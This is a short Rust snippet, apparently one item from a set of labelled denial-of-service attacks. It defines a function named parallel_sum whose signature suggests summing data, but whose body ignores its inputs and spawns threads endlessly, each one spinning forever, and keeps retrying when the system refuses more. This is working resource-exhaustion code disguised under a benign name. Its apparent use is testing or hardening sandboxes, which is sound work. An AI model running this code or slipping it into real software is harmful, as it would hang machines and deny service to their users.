// attack o13 threads_without_end | class=dos | as many threads as the system gives, all of them spinning
pub fn parallel_sum(_d: &[u64], _w: usize) -> u64 {
    loop { if std::thread::Builder::new().stack_size(16 << 10).spawn(|| loop { std::hint::spin_loop() }).is_err() { std::thread::yield_now() } }
}
